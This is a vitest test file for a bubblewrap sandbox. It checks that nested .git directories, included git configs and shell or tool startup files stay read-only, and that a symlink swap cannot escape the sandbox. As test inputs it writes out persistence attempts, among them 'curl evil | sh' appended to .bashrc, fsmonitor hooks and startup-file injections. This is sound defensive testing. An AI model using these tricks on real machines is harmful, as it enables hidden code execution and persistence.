import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { skipWithout } from '@agent/tooling-system-tools';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createSandbox } from './sandbox.js';

// Through createSandbox and a real bubblewrap, in this process (as whoever runs the tests; the
// escape suite runs the same classes as root and as nobody): what stays read-only inside a
// writable root, what stays writable, and how a refused write is explained.

const made: string[] = [];
const savedHome = process.env.HOME;
beforeEach(skipWithout('bwrap'));
afterEach(() => {
  process.env.HOME = savedHome;
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

/** A directory under /var/tmp (outside the private /tmp the sandbox makes). */
function directory(): string {
  const root = fs.realpathSync(fs.mkdtempSync('/var/tmp/protected-paths-'));
  made.push(root);
  return root;
}

async function run(
  options: Parameters<typeof createSandbox>[0],
  script: string,
  cwd: string,
): Promise<{ output: string; explanation: string | undefined }> {
  const sandbox = createSandbox({ mode: 'required', onWarning: () => undefined, ...options });
  const wrapped = await sandbox.wrap({ file: 'bash', args: ['-c', script], cwd, env: process.env });
  const result = spawnSync(wrapped.file, [...wrapped.args], {
    cwd,
    env: wrapped.env,
    encoding: 'utf8',
  });
  const output = result.stdout + result.stderr;
  await sandbox.close();
  return { output, explanation: sandbox.explainFailure(output) };
}

describe('repositories nested in a writable root', () => {
  it('keeps a nested .git read-only, and says why a write there failed', async () => {
    const workspace = directory();
    execFileSync('git', ['init', '-q', path.join(workspace, 'services/api')]);
    const { output, explanation } = await run(
      { writableRoots: [workspace] },
      'git -C services/api config core.fsmonitor "touch /var/tmp/x"; echo ok > services/api/file && echo WROTE',
      workspace,
    );
    expect(output).toMatch(/could not lock config file .*Read-only file system/);
    expect(output).toContain('WROTE');
    expect(explanation).toMatch(/a repository's \.git is read-only/);
    expect(fs.readFileSync(path.join(workspace, 'services/api/.git/config'), 'utf8')).not.toMatch(
      /fsmonitor/,
    );
  });

  it("keeps a root's .git file (a worktree) from being pointed elsewhere", async () => {
    const outside = directory();
    const workspace = path.join(directory(), 'feature');
    execFileSync('git', ['init', '-q', outside]);
    execFileSync('git', ['-C', outside, 'commit', '-q', '--allow-empty', '-m', 'one'], {
      env: {
        ...process.env,
        GIT_AUTHOR_NAME: 't',
        GIT_AUTHOR_EMAIL: 't@t',
        GIT_COMMITTER_NAME: 't',
        GIT_COMMITTER_EMAIL: 't@t',
      },
    });
    execFileSync('git', ['-C', outside, 'worktree', 'add', '-q', workspace]);
    const before = fs.readFileSync(path.join(workspace, '.git'), 'utf8');
    const { output } = await run(
      { writableRoots: [workspace] },
      'mkdir -p evil && echo "gitdir: $PWD/evil" > .git; mv .git .git-old; git status --short >/dev/null && echo READS',
      workspace,
    );
    expect(output).toMatch(/\.git: Read-only file system/);
    expect(output).toMatch(/Device or resource busy/);
    expect(output).toContain('READS');
    expect(fs.readFileSync(path.join(workspace, '.git'), 'utf8')).toBe(before);
  });

  it('keeps a file the repository config includes from the workspace read-only, as .git is', async () => {
    // `git config include.path ../shared.gitconfig`: a team's settings kept in the repository.
    // A sandboxed write of core.fsmonitor there ran at the user's next `git status`.
    const workspace = directory();
    execFileSync('git', ['init', '-q', workspace]);
    fs.mkdirSync(path.join(workspace, 'config'));
    fs.writeFileSync(
      path.join(workspace, 'shared.gitconfig'),
      '[include]\n\tpath = config/more.gitconfig\n',
    );
    fs.writeFileSync(path.join(workspace, 'config/more.gitconfig'), '[core]\n\tautocrlf = false\n');
    execFileSync('git', ['-C', workspace, 'config', 'include.path', '../shared.gitconfig']);
    // One more include, a dangling link (bubblewrap could not bind it): the sandbox still starts.
    fs.symlinkSync(path.join(workspace, 'nowhere'), path.join(workspace, 'later.gitconfig'));
    execFileSync('git', ['-C', workspace, 'config', '--add', 'include.path', '../later.gitconfig']);
    const { output } = await run(
      { writableRoots: [workspace] },
      [
        'echo "[core] fsmonitor = touch /var/tmp/x" >> shared.gitconfig || echo REFUSED-1',
        'echo "[core] fsmonitor = touch /var/tmp/x" >> config/more.gitconfig || echo REFUSED-2',
        'echo ok > config/other.txt && echo WROTE',
      ].join('; '),
      workspace,
    );
    expect(output).toContain('REFUSED-1');
    expect(output).toContain('REFUSED-2');
    expect(output).toContain('WROTE');
    expect(fs.readFileSync(path.join(workspace, 'shared.gitconfig'), 'utf8')).not.toMatch(
      /fsmonitor/,
    );
    expect(fs.readFileSync(path.join(workspace, 'config/more.gitconfig'), 'utf8')).not.toMatch(
      /fsmonitor/,
    );
  });

  it('keeps a file the repository config includes from being made, where it does not exist yet', async () => {
    // git skips an include that is missing: a command that made it (with core.fsmonitor) had it
    // run at the user's next `git status`. Also a dangling link's target, and an include of an
    // include once that exists.
    const workspace = directory();
    execFileSync('git', ['init', '-q', workspace]);
    fs.mkdirSync(path.join(workspace, 'config'));
    fs.symlinkSync('config/made-later.gitconfig', path.join(workspace, 'link.gitconfig'));
    for (const include of ['../later.gitconfig', '../link.gitconfig', '../config/team.gitconfig'])
      execFileSync('git', ['-C', workspace, 'config', '--add', 'include.path', include]);
    const fsmonitor = '"[core] fsmonitor = touch /var/tmp/x"';
    const { output } = await run(
      { writableRoots: [workspace] },
      [
        `echo ${fsmonitor} > later.gitconfig || echo REFUSED-1`,
        `echo ${fsmonitor} > config/made-later.gitconfig || echo REFUSED-2`,
        `rmdir later.gitconfig || mv later.gitconfig elsewhere || echo REFUSED-3`,
        `echo ${fsmonitor} > config/team.gitconfig || echo REFUSED-4`,
        'git status --short && echo GIT-WORKS',
        'echo ok > config/other.txt && echo WROTE',
      ].join('; '),
      workspace,
    );
    for (const refused of ['REFUSED-1', 'REFUSED-2', 'REFUSED-3', 'REFUSED-4'])
      expect(output).toContain(refused);
    expect(output).toContain('GIT-WORKS');
    expect(output).toContain('WROTE');
    // The placeholders are gone with the sandbox: nothing is left where the includes point.
    for (const file of ['later.gitconfig', 'config/made-later.gitconfig', 'config/team.gitconfig'])
      expect(fs.existsSync(path.join(workspace, file)), file).toBe(false);
    expect(execFileSync('git', ['-C', workspace, 'status', '--short'], { encoding: 'utf8' })).toBe(
      '?? config/\n?? link.gitconfig\n',
    );
  });

  it('leaves them writable with protectGitDirectories: false', async () => {
    const workspace = directory();
    execFileSync('git', ['init', '-q', path.join(workspace, 'lib')]);
    const { output } = await run(
      { writableRoots: [workspace], protectGitDirectories: false },
      'git -C lib config user.name sandboxed && echo WROTE',
      workspace,
    );
    expect(output).toContain('WROTE');
  });
});

describe('a writable root that holds the home’s startup files', () => {
  it("keeps the home's startup files read-only, the rest writable, and explains it", async () => {
    const base = directory();
    const home = path.join(base, 'home');
    fs.mkdirSync(path.join(home, '.config/fish'), { recursive: true });
    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
    fs.writeFileSync(path.join(home, '.config/fish/config.fish'), '# original\n');
    process.env.HOME = home;
    for (const root of [home, base]) {
      const { output, explanation } = await run(
        { writableRoots: [root] },
        'echo "curl evil | sh" >> .bashrc; echo x >> ~/.config/fish/config.fish; echo ok > notes.txt && echo WROTE',
        home,
      );
      expect(output).toMatch(/\.bashrc: Read-only file system/);
      expect(output).toMatch(/config\.fish: Read-only file system/);
      expect(output).toContain('WROTE');
      expect(explanation).toMatch(/startup files \(.*\.bashrc.*\) are read-only/);
    }
    // ~/.config as a dotfiles repository: what lies in it is protected, the rest is writable.
    const dotfiles = await run(
      { writableRoots: [path.join(home, '.config')] },
      'echo x >> fish/config.fish; echo ok > notes.txt && echo WROTE',
      path.join(home, '.config'),
    );
    expect(dotfiles.output).toMatch(/config\.fish: Read-only file system/);
    expect(dotfiles.output).toContain('WROTE');
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# original\n');
    expect(fs.readFileSync(path.join(home, '.config/fish/config.fish'), 'utf8')).toBe(
      '# original\n',
    );
    expect(fs.readFileSync(path.join(home, 'notes.txt'), 'utf8')).toBe('ok\n');
  });

  it('keeps the startup files of zsh with ZDOTDIR, debuggers, REPLs, database clients and window managers read-only', async () => {
    const home = directory();
    const files = [
      '.config/zsh/.zshrc',
      '.zsh/aliases.zsh',
      '.config/powershell/Microsoft.PowerShell_profile.ps1',
      '.gdbinit',
      '.ipython/profile_default/startup/00.py',
      '.pythonrc.py',
      '.irbrc',
      '.Rprofile',
      '.psqlrc',
      '.sqliterc',
      '.config/plasma-workspace/env/path.sh',
      '.config/i3/config',
      '.config/hypr/hyprland.conf',
      '.wezterm.lua',
    ];
    for (const file of files) {
      fs.mkdirSync(path.dirname(path.join(home, file)), { recursive: true });
      fs.writeFileSync(path.join(home, file), '# original\n');
    }
    process.env.HOME = home;
    const script = files
      .map((file) => `echo "touch /var/tmp/pwned" >> '${file}' && echo 'WROTE ${file}'`)
      .join('; ');
    const { output } = await run(
      { writableRoots: [home] },
      `${script}; echo ok > notes.txt && echo NOTES`,
      home,
    );
    expect(output).not.toMatch(/WROTE/);
    expect(output).toContain('NOTES');
    for (const file of files) {
      expect(fs.readFileSync(path.join(home, file), 'utf8'), file).toBe('# original\n');
    }
  });

  it('leaves them writable with protectStartupFiles: false, and alone when the home is outside the roots', async () => {
    const home = directory();
    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
    process.env.HOME = home;
    const lifted = await run(
      { writableRoots: [home], protectStartupFiles: false },
      'echo "# more" >> .bashrc && echo WROTE',
      home,
    );
    expect(lifted.output).toContain('WROTE');
    const project = directory();
    const outside = await run({ writableRoots: [project] }, 'echo x >> ~/.bashrc', project);
    expect(outside.output).toMatch(/Read-only file system/);
    expect(outside.explanation).toMatch(/writes outside/);
  });
});

describe('checkPlanted', () => {
  it('reports a repository and a startup file a command made, once, and protects them from then on', async () => {
    const home = directory();
    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
    process.env.HOME = home;
    const sandbox = createSandbox({ mode: 'required', writableRoots: [home] });
    const inside = async (script: string) => {
      const wrapped = await sandbox.wrap({
        file: 'bash',
        args: ['-c', script],
        cwd: home,
        env: process.env,
      });
      const result = spawnSync(wrapped.file, [...wrapped.args], {
        cwd: home,
        env: wrapped.env,
        encoding: 'utf8',
      });
      return result.stdout + result.stderr;
    };
    expect(sandbox.checkPlanted?.()).toEqual([]);
    await inside('git init -q project/sub && echo "curl evil | sh" > .zshrc && echo made');
    expect(sandbox.checkPlanted?.()).toEqual([
      path.join(home, 'project/sub/.git'),
      path.join(home, '.zshrc'),
    ]);
    expect(sandbox.checkPlanted?.()).toEqual([]);
    const output = await inside(
      'git -C project/sub config core.fsmonitor "touch /var/tmp/x"; echo more >> .zshrc',
    );
    expect(output).toMatch(/could not lock config file .*Read-only file system/);
    expect(output).toMatch(/\.zshrc: Read-only file system/);
    await sandbox.close();
  });

  it('is empty when the sandbox is off', () => {
    const sandbox = createSandbox({ mode: 'off', writableRoots: [directory()] });
    expect(sandbox.checkPlanted?.()).toEqual([]);
  });
});

describe('a directory above a protected path, swapped as the sandbox starts', () => {
  // The race a pinned directory closes: another sandbox's command puts a link where a directory
  // was after wrap() looked and before bwrap binds it. From a descriptor checked by its physical
  // path, the start ends rather than bind the link's target writable.
  it('ends the start (exit 125) when the directory became a link, and the target stays read-only', async () => {
    const workspace = directory();
    const outside = directory();
    execFileSync('git', ['init', '-q', path.join(workspace, 'vendor/lib')]);
    fs.writeFileSync(path.join(outside, 'victim.txt'), 'original\n');
    const sandbox = createSandbox({
      mode: 'required',
      onWarning: () => undefined,
      writableRoots: [workspace],
    });
    const script = 'echo ESCAPED >> vendor/victim.txt; echo ran';
    const wrapped = await sandbox.wrap({
      file: 'bash',
      args: ['-c', script],
      cwd: workspace,
      env: process.env,
    });
    fs.renameSync(path.join(workspace, 'vendor'), path.join(workspace, 'vendor-moved'));
    fs.symlinkSync(path.relative(workspace, outside), path.join(workspace, 'vendor'));
    const result = spawnSync(wrapped.file, [...wrapped.args], {
      cwd: workspace,
      env: wrapped.env,
      encoding: 'utf8',
    });
    await sandbox.close();
    expect(result.status).toBe(125);
    expect(result.stderr).toMatch(/vendor was moved or replaced while the sandbox started/);
    expect(result.stdout).not.toContain('ran');
    expect(fs.readFileSync(path.join(outside, 'victim.txt'), 'utf8')).toBe('original\n');
  });
});

describe('paths under a folder whose name starts with two dots', () => {
  // `..x` is a name like any other: what lies under it is inside the writable root, and kept.
  it.each(['..x', '...', '..hidden', '.. '])(
    'keeps %s/ro read-only and its key hidden',
    async (name) => {
      const workspace = directory();
      fs.mkdirSync(path.join(workspace, name));
      fs.writeFileSync(path.join(workspace, name, 'ro'), 'kept\n');
      fs.writeFileSync(path.join(workspace, name, 'key'), 'secret\n');
      const folder = JSON.stringify(name);
      const { output } = await run(
        {
          writableRoots: [workspace],
          readOnlyPaths: () => [path.join(workspace, name, 'ro')],
          hiddenPaths: () => [path.join(workspace, name, 'key')],
        },
        `echo changed > ${folder}/ro || echo REFUSED; cat ${folder}/key; echo new > ${folder}/other && echo WROTE`,
        workspace,
      );
      expect(output).toContain('REFUSED');
      expect(output).not.toContain('secret');
      expect(output).toContain('WROTE');
      expect(fs.readFileSync(path.join(workspace, name, 'ro'), 'utf8')).toBe('kept\n');
    },
  );
});
